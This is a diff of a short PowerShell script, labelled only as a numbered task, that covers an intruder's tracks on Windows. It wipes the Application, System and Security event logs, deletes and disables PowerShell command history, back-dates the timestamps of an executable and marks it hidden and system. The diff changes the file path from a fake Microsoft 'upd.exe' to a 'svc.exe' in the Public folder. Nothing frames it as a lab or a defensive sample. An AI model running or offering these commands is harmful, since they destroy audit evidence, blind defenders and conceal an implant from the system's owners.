@@ -1,7 +1,7 @@
-# task 2271 v3
+# task 7018 v3
 Clear-EventLog -LogName Application, System, Security
 Remove-Item (Get-PSReadlineOption).HistorySavePath -Force
 Set-PSReadlineOption -HistorySaveStyle SaveNothing
-$f = Get-Item C:\ProgramData\Microsoft\upd.exe
+$f = Get-Item C:\Users\Public\svc.exe
 $f.CreationTime = '01/01/2019 08:00:00'; $f.LastWriteTime = '01/01/2019 08:00:00'
-attrib +h +s C:\ProgramData\Microsoft\upd.exe
+attrib +h +s C:\Users\Public\svc.exe
